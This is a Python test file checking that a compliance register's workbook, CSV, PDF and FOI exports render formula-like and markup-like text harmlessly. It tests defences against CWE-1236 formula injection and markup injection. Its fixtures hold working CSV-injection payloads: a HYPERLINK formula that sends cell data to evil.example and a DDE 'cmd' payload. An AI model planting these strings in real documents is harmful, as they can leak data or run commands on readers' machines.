"""Exports that cannot attack their reader: register text that looks like a spreadsheet formula is
written as plain text in the workbook and the CSV downloads (CWE-1236), and text that looks like
markup comes out of the PDF report and the FOI drafts literally. Every file is read back."""

from __future__ import annotations

import copy
import csv
import io
import json
import shutil
import subprocess
from datetime import date, timedelta

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook
from pypdf import PdfReader

from compliance.extensions import db
from compliance.models import Finding
from compliance.models.enums import FindingStatus
from compliance.reports.workbook import FORMULA_TRIGGERS, cell_text, inert
from compliance.services import exchange, findings
from compliance.services.seeding import DEMO_FILE

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Shire Police")'
FORMULAS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3 Council", "@SUM(1,1) Trust"]
MARKUP = '<b>bold</b> & <font color="red" size="40">big <a href="http://evil.example/">link</a> <i>unclosed <br'


def flat(text: str) -> str:
    """Text without its whitespace: a narrow table cell breaks lines, and even words, anywhere."""
    return "".join(text.split())


@pytest.fixture
def hostile(demo):
    """The demo register with formula-like organisation names and markup-like names elsewhere."""
    doc = copy.deepcopy(json.loads(DEMO_FILE.read_text(encoding="utf-8")))
    for i, organisation in enumerate(doc["organisations"]):
        organisation["name"] = FORMULAS[i] if i < len(FORMULAS) else f"{MARKUP} organisation {i}"
    doc["areas"][0]["name"] = f"{MARKUP} area"
    for i, flow in enumerate(doc["data_flows"]):
        flow["name"] = f"{MARKUP} flow {i}" if i % 2 else f"=cmd flow {i}"
    for i, system in enumerate(doc["storage_systems"]):
        system["name"] = f"{MARKUP} storage {i}"
    doc["storage_systems"][1]["kind"] = "la_case_system"  # a local system: FOI answer 11 names it
    for panel in doc["panels"]:
        panel["name"] = f"{MARKUP} panel"
    exchange.import_text(doc, actor="test", source="import")
    finding = db.session.scalar(sa.select(Finding).where(Finding.status == FindingStatus.OPEN).limit(1))
    findings.accept_risk(finding, actor="dpo@example.org", reason=MARKUP, review_on=date.today() + timedelta(days=30))
    db.session.remove()
    return doc


def test_inert_prefixes_a_quote_to_what_a_spreadsheet_would_run():
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert inert(text) == "'" + text
    for text in ("Shire Police", "'=already", "", "a=b"):
        assert inert(text) == text
    assert cell_text(["=a", "b"]) == "'=a, b" and cell_text(4) == 4


def test_the_workbook_writes_register_text_as_text_never_as_a_formula(cli, hostile, tmp_path):
    out = tmp_path / "register.xlsx"
    assert cli(["report", "xlsx", str(out)]).exit_code == 0
    workbook = load_workbook(out)
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_TRIGGERS), (sheet.title, cell.coordinate, cell.value)
                    texts.append((sheet.title, cell.value, cell.data_type))
    assert ("Organisations", "'" + HYPERLINK, "s") in texts
    assert ("Data flows", "'=cmd flow 0", "s") in texts


def test_the_csv_downloads_write_register_text_as_text(client_for, cli, hostile):
    client = client_for("auditor")
    raw = client.get("/records/organisations/download.csv").data.decode()
    rows = list(csv.reader(io.StringIO(raw)))
    names = [row[rows[0].index("name")] for row in rows[1:]]
    assert "'" + HYPERLINK in names and "'+1+cmd|' /C calc'!A0" in names
    assert all(not cell.startswith(FORMULA_TRIGGERS) for row in rows for cell in row)
    flows = client.get("/records/data_flows/download.csv").data.decode()
    assert "\n'=cmd flow 0," in flows or ",'=cmd flow 0," in flows
    gaps = cli(["gaps", "--format", "csv"]).stdout
    assert all(not cell.startswith(FORMULA_TRIGGERS) for row in csv.reader(io.StringIO(gaps)) for cell in row)


def pdf_text(path) -> str:
    if shutil.which("pdftotext"):
        # -raw keeps each table cell's lines together, in the order reportlab drew them.
        text = subprocess.run(["pdftotext", "-raw", str(path), "-"], capture_output=True, text=True, check=True).stdout
    else:
        text = "\n".join(page.extract_text() for page in PdfReader(str(path)).pages)
    return flat(text)


def test_the_pdf_report_shows_markup_like_text_literally(cli, hostile, tmp_path):
    out = tmp_path / "report.pdf"
    result = cli(["report", "pdf", str(out), "--area", "riverford"])
    assert result.exit_code == 0, result.output
    text = pdf_text(out)
    for expected in (f"Area: {MARKUP} area", f"{MARKUP} flow 1", f"{MARKUP} panel", "=cmd flow 0"):
        assert flat(expected) in text, expected
    assert flat(MARKUP) + "dpo@example.org" in text  # the accepted risk's reason, then who accepted it


def test_the_foi_drafts_show_markup_like_text_literally(cli, client_for, hostile):
    text = cli(["foi", "draft", "--area", "riverford"])
    assert text.exit_code == 0 and f"{MARKUP} area" in text.stdout
    as_json = cli(["foi", "draft", "--area", "riverford", "--format", "json"])
    assert as_json.exit_code == 0
    assert any(MARKUP in answer["text"] for answer in json.loads(as_json.stdout)["answers"])
    page = client_for("dpo").get("/foi/riverford").data.decode()
    assert "&lt;b&gt;bold&lt;/b&gt; &amp; &lt;font" in page and "<b>bold</b>" not in page
